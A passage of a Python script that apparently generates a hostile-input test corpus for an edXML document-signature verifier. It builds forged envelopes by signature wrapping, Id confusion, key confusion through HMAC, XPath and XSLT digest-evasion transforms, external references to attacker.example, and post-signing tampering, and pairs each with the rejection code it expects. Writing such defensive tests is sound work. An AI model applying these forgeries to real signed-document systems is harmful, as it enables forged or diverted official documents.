            )
        )
        # A genuine signature, but appended to the root instead of edXMLHeader.
        root = parse(self.base)
        handmade_signature(
            root,
            key=self.keys["agency-ec"].key,
            method=ECDSA_SHA256,
            references=[Ref("", STANDARD_TRANSFORMS, enveloped_octets)],
            certificates=[self.keys["agency-ec"].certificate],
            parent=root,
        )
        data = serialize(root)
        self.add(
            Case(
                "signature_outside_header",
                "a genuine enveloped signature placed as the last child of edXML, not in "
                "edXMLHeader",
                "parse",
                "schema_invalid",
                data,
                element="Signature",
                line=line_of(data, b"<ds:Signature xmlns"),
                verify_code="signature_misplaced",
                signer="agency-ec",
                naive_accepts=True,
            )
        )

    # -- Id confusion --------------------------------------------------------------------------

    def id_confusion(self) -> None:
        spellings = {"Id": "Id", "ID": "ID", "lower_id": "id", "xml_id": f"{{{XML_NS}}}id"}
        for suffix, attribute in spellings.items():
            shown = "xml:id" if attribute.startswith("{") else attribute
            root = self._id_signed(attribute)
            obj = etree.SubElement(signature_of(root), ds("Object"))
            self._park_and_forge(root, obj, keep_id=None)
            self.add(
                Case(
                    f"id_confusion_{suffix}",
                    f'Reference URI="#hdr" resolved through a {shown}="hdr" attribute on the '
                    "signed MessageHeader parked in ds:Object; a forged header in its place",
                    "verify",
                    "bad_reference",
                    serialize(root),
                    signer="agency-ec",
                    naive_accepts=True,
                )
            )
        root = self._id_signed("Id")
        data = serialize(root)
        self.add(
            Case(
                "id_reference_on_message_header",
                'a genuine signature with Reference URI="#hdr" and Id="hdr" on MessageHeader '
                "(the shape every Id-wrapping attack starts from)",
                "parse",
                "schema_invalid",
                data,
                element="MessageHeader",
                line=line_of(data, b"<edXML:MessageHeader"),
                verify_code="bad_reference",
                signer="agency-ec",
                naive_accepts=True,
            )
        )
        root = self._id_signed("Id")
        obj = etree.SubElement(signature_of(root), ds("Object"))
        self._park_and_forge(root, obj, keep_id="Id")
        data = serialize(root)
        self.add(
            Case(
                "id_duplicate",
                'duplicate Id="hdr": the forged MessageHeader and the signed one parked in '
                "ds:Object carry the same Id",
                "parse",
                "schema_invalid",
                data,
                element="MessageHeader",
                line=line_of(data, b"<edXML:MessageHeader"),
                verify_code="bad_reference",
                signer="agency-ec",
            )
        )

    # -- KeyInfo ---------------------------------------------------------------------------------

    def key_info(self) -> None:
        forged = parse(self.base)
        forge(forged)
        forged_bytes = serialize(forged)
        self.add(
            Case(
                "attacker_certificate_in_keyinfo",
                "a forged envelope signed by the attacker, whose certificate (CN "
                "000.00.00.G22, another CA) is in KeyInfo",
                "verify",
                "certificate_not_registered",
                sign_envelope(forged_bytes, self.keys["attacker"]),
                signer="attacker",
                naive_accepts=True,
            )
        )
        self.add(
            Case(
                "attacker_keyvalue",
                "a forged envelope signed by the attacker's key, KeyInfo holding only its "
                "KeyValue (no certificate)",
                "verify",
                "invalid_signature",
                signxml_signature(
                    forged_bytes,
                    key=self.keys["attacker"].key,
                    method=SignatureMethod.ECDSA_SHA256,
                    digest=DigestAlgorithm.SHA256,
                    certificates=None,
                ),
                signer="attacker",
                naive_accepts=True,
            )
        )

    # -- algorithms ------------------------------------------------------------------------------

    def algorithms(self) -> None:
        rsa_key = self.keys["agency-rsa"]
        root = parse(self.base)
        handmade_signature(
            root,
            key=rsa_key.key,
            method=RSA_SHA1,
            references=[Ref("", STANDARD_TRANSFORMS, enveloped_octets, digest=SHA1)],
            certificates=[rsa_key.certificate],
        )
        self.add(
            Case(
                "alg_rsa_sha1",
                "RSA-SHA1 with a SHA-1 digest by the registered RSA certificate: refused unless "
                "the agency is marked legacy",
                "verify",
                "algorithm_not_allowed",
                serialize(root),
                registered=("agency-rsa",),
                allow_sha1="accept",
                signer="agency-rsa",
                naive_accepts=True,
            )
        )
        root = parse(self.base)
        handmade_signature(
            root,
            key=rsa_key.key,
            method=RSA_MD5,
            references=[Ref("", STANDARD_TRANSFORMS, enveloped_octets, digest=MD5)],
            certificates=[rsa_key.certificate],
        )
        self.add(
            Case(
                "alg_rsa_md5",
                "RSA-MD5 with an MD5 digest by the registered RSA certificate (refused even "
                "for legacy agencies)",
                "verify",
                "algorithm_not_allowed",
                serialize(root),
                registered=("agency-rsa",),
                allow_sha1="algorithm_not_allowed",
                signer="agency-rsa",
            )
        )
        weak = self.keys["agency-rsa-1024"]
        root = parse(self.base)
        handmade_signature(
            root,
            key=weak.key,
            method=RSA_SHA256,
            references=[Ref("", STANDARD_TRANSFORMS, enveloped_octets)],
            certificates=[weak.certificate],
        )
        self.add(
            Case(
                "weak_rsa_1024_key",
                "RSA-SHA256 by a registered certificate holding a 1024-bit RSA key (the axis "
                "signs only with 2048 bits or more)",
                "verify",
                "unsupported_key",
                serialize(root),
                registered=("agency-rsa-1024",),
                signer="agency-rsa-1024",
                naive_accepts=True,
            )
        )
        forged = parse(self.base)
        forge(forged)
        agency_certificate = self.keys["agency-ec"].certificate
        hmac_key = certificate_pem(agency_certificate)
        handmade_signature(
            forged,
            key=hmac_key,
            method=HMAC_SHA256,
            references=[Ref("", STANDARD_TRANSFORMS, enveloped_octets)],
            certificates=[agency_certificate],
        )
        self.add(
            Case(
                "alg_hmac_sha256",
                "HMAC-SHA256 keyed with the sender's public certificate PEM (key confusion), "
                "over a forged envelope, the sender's certificate in KeyInfo",
                "verify",
                "algorithm_not_allowed",
                serialize(forged),
                allow_sha1="algorithm_not_allowed",
                hmac_key_of="agency-ec",
            )
        )

    # -- references and transforms -------------------------------------------------------------

    def _handmade_case(
        self,
        name: str,
        description: str,
        code: str,
        references: Sequence[Ref],
        *,
        objects: Sequence[Element] = (),
        after: Callable[[Element], None] | None = None,
        naive_accepts: bool = False,
    ) -> None:
        root = parse(self.base)
        handmade_signature(
            root,
            key=self.keys["agency-ec"].key,
            method=ECDSA_SHA256,
            references=references,
            certificates=[self.keys["agency-ec"].certificate],
            objects=objects,
        )
        if after is not None:
            after(root)
        self.add(
            Case(
                name,
                description,
                "verify",
                code,
                serialize(root),
                signer="agency-ec",
                naive_accepts=naive_accepts,
            )
        )

    def references_and_transforms(self) -> None:
        self._handmade_case(
            "no_reference",
            "a SignedInfo with no Reference at all (signs nothing)",
            "bad_reference",
            [],
        )
        payload = etree.Element(ds("Object"), Id="extra")
        payload.text = "attacker-chosen data"
        self._handmade_case(
            "two_references",
            'two References: URI="" and URI="#extra" to a ds:Object, both digests right',
            "bad_reference",
            [
                Ref("", STANDARD_TRANSFORMS, enveloped_octets),
                Ref("#extra", (Transform(EXC_C14N),), octets_of_id("Id", "extra")),
            ],
            objects=[payload],
            naive_accepts=True,
        )
        self._handmade_case(
            "external_uri_reference",
            'a Reference URI="http://attacker.example/edxml/signed.xml" (would be fetched)',
            "bad_reference",
            [Ref("http://attacker.example/edxml/signed.xml", (), lambda r, s: self.base)],
        )

        def without_message_header(root: Element, signature: Element) -> bytes:
            copied = parse(etree.tostring(root))
            remove_keeping_tail(same_in_copy(root, copied, signature))
            remove_keeping_tail(message_header_of(copied))
            return exc_c14n(copied)

        self._handmade_case(
            "xpath_transform",
            "an XPath filter transform leaving MessageHeader out of the digest, then the "
            "header forged (verifies for an XPath-honouring verifier such as xmlsec1)",
            "transform_not_allowed",
            [
                Ref(
                    "",
                    (
                        Transform(ENVELOPED),
                        Transform(XPATH_FILTER, xpath="not(ancestor-or-self::edXML:MessageHeader)"),
                        Transform(EXC_C14N),
                    ),
                    without_message_header,
                )
            ],
            after=forge,
        )
        stylesheet = (
            b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            b'<xsl:output method="text"/>'
            b'<xsl:template match="/">constant</xsl:template>'
            b"</xsl:stylesheet>"
        )
        self._handmade_case(
            "xslt_transform",
            "an XSLT transform whose output is a constant (the digest covers nothing of "
            "the document), then the header forged",
            "transform_not_allowed",
            [
                Ref(
                    "",
                    (Transform(ENVELOPED), Transform(XSLT, stylesheet=stylesheet)),
                    lambda root, signature: b"constant",
                )
            ],
            after=forge,
        )
        self._handmade_case(
            "c14n_with_comments_transform",
            "exclusive c14n WithComments as the Reference transform",
            "transform_not_allowed",
            [
                Ref(
                    "",
                    (Transform(ENVELOPED), Transform(EXC_C14N_WITH_COMMENTS)),
                    enveloped_octets,
                )
            ],
            naive_accepts=True,
        )

    # -- tampering after signing ---------------------------------------------------------------

    def tampering(self) -> None:
        def tampered(name: str, description: str, data: bytes, **kw: Any) -> None:
            self.add(Case(name, description, "verify", "invalid_signature", data, **kw))

        tampered(
            "tampered_text",
            "Subject text changed after signing",
            replace_once(
                self.signed_ec,
                "<edXML:Subject>V/v kết nối".encode(),
                "<edXML:Subject>V/v hủy kết nối".encode(),
            ),
            signer="agency-ec",
        )
        tampered(
            "tampered_recipient",
            "a To/OrganId changed after signing (document diverted to another agency)",
            replace_once(
                self.signed_ec,
                b"<edXML:OrganId>000.00.00.H41</edXML:OrganId>",
                b"<edXML:OrganId>" + FORGED_RECIPIENT.encode() + b"</edXML:OrganId>",
            ),
            signer="agency-ec",
        )
        tampered(
            "tampered_attribute",
            'the edXMLManifest version attribute changed from "1.0" to "2.0" after signing',
            replace_once(
                self.signed_ec,
                b'<edXML:edXMLManifest version="1.0">',
                b'<edXML:edXMLManifest version="2.0">',
            ),
            signer="agency-ec",
        )
        tampered(
            "tampered_whitespace",
            "one blank line inserted between two signed elements after signing",
            replace_once(
                self.signed_ec,
                b"</edXML:OrganId>\n          <edXML:OrganizationInCharge>",
                b"</edXML:OrganId>\n\n          <edXML:OrganizationInCharge>",
            ),
            signer="agency-ec",
        )
        tampered(
            "tampered_attachment",
            "the attachment's base64 content changed after signing",
            replace_once(
                self.signed_ec,
                base64.b64encode(ATTACHMENT_PAYLOAD),
                base64.b64encode(ATTACHMENT_PAYLOAD.replace(b"small", b"large")),
            ),
            signer="agency-ec",
        )
        value = re.search(rb"<ds:SignatureValue>([^<]*)</ds:SignatureValue>", self.signed_rsa)
        assert value is not None
        raw = bytearray(base64.b64decode(value.group(1)))
        raw[len(raw) // 2] ^= 0x01
        tampered(
            "tampered_signature_value",
            "one bit of the RSA SignatureValue flipped",
            self.signed_rsa.replace(value.group(1), base64.b64encode(bytes(raw)), 1),
            registered=("agency-rsa",),
        )
        instruction = replace_once(
            self.signed_ec,
            b"<?xml version='1.0' encoding='UTF-8'?>\n",
            b"<?xml version='1.0' encoding='UTF-8'?>\n"
            b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/render.xsl"?>\n',
        )
        self.add(
            Case(
                "processing_instruction_before_root",
                "a processing instruction added before the root after signing (xmlsec1 would "
                "digest it, signxml not)",
                "verify",
                "malformed",
                instruction,
                signer="agency-ec",
                naive_accepts=True,
            )
        )
        self.add(
            Case(
                "signature_stripped",
                "the base envelope with no signature at all",
                "verify",
                "missing_signature",
                self.base,
            )
        )

    # -- certificates --------------------------------------------------------------------------

    def certificates(self) -> None:
        def signed_by(name: str) -> bytes:
            return sign_envelope(self.base, self.keys[name])

        self.add(
            Case(
                "certificate_expired",
                "signed with a registered certificate valid 2020-01-01..2021-01-01",
                "verify",
                "certificate_expired",
                signed_by("expired"),
                registered=("expired",),
                accept_at="2020-06-01T00:00:00+00:00",
                signer="expired",
            )
        )
        self.add(
            Case(
                "certificate_not_yet_valid",
                "signed with a registered certificate valid 2040-01-01..2041-01-01",
                "verify",
                "certificate_not_yet_valid",
                signed_by("not-yet-valid"),
                registered=("not-yet-valid",),
                accept_at="2040-06-01T00:00:00+00:00",
                signer="not-yet-valid",
            )
        )
        self.add(
            Case(
                "certificate_without_digital_signature",
                "signed with a registered certificate whose KeyUsage lacks digitalSignature",
                "verify",
                "key_usage",
                signed_by("no-digital-signature"),
                registered=("no-digital-signature",),
                signer="no-digital-signature",
                naive_accepts=True,
            )
        )
        self.add(
            Case(
                "certificate_untrusted_ca",
                "signed with a registered certificate issued by a CA that is not a trust root",
                "verify",
                "untrusted_chain",
                signed_by("attacker"),
                registered=("attacker",),
                signer="attacker",
                naive_accepts=True,
            )
        )


# --------------------------------------------------------------------------------------------
# Writing


def build_cases(keys: dict[str, CertifiedKey] | None = None) -> list[Case]:
    return Builder(keys if keys is not None else load_keys()).build()


def manifest(cases: Sequence[Case]) -> dict[str, Any]:
    return {
        "about": "Hostile-input corpus: each file and the rejection it must produce. Generated "
        "by tests/hostile/make_corpus.py; do not edit by hand.",
        "receipt_time": RECEIPT_TIME.isoformat(),
        "keys": "../keys",
        "trust_roots": list(TRUST_ROOTS),
        "cases": [case.manifest_entry() for case in cases],
    }


def write_corpus(directory: Path, cases: Sequence[Case]) -> None:
    """Write every case and MANIFEST.json into `directory`, removing stale corpus files."""
    directory.mkdir(parents=True, exist_ok=True)
    names = {case.file for case in cases}
    for stale in [*directory.glob("*.xml"), *directory.glob("*.bin")]:
        if stale.name not in names:
            stale.unlink()
    for case in cases:
        (directory / case.file).write_bytes(case.data)
    text = json.dumps(manifest(cases), indent=2, ensure_ascii=False) + "\n"
    (directory / MANIFEST).write_text(text, encoding="utf-8")


def main(argv: Sequence[str] | None = None) -> int:
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("--out", type=Path, default=CORPUS_DIR, help="corpus directory")
    options.add_argument("--keys", type=Path, default=KEYS_DIR, help="test identities")
    options.add_argument(
        "--new-keys", action="store_true", help="generate new test identities first"
    )
    arguments = options.parse_args(argv)
    if arguments.new_keys:
        create_keys(arguments.keys)
    cases = build_cases(load_keys(arguments.keys))
    write_corpus(arguments.out, cases)
    print(f"{len(cases)} cases written to {arguments.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
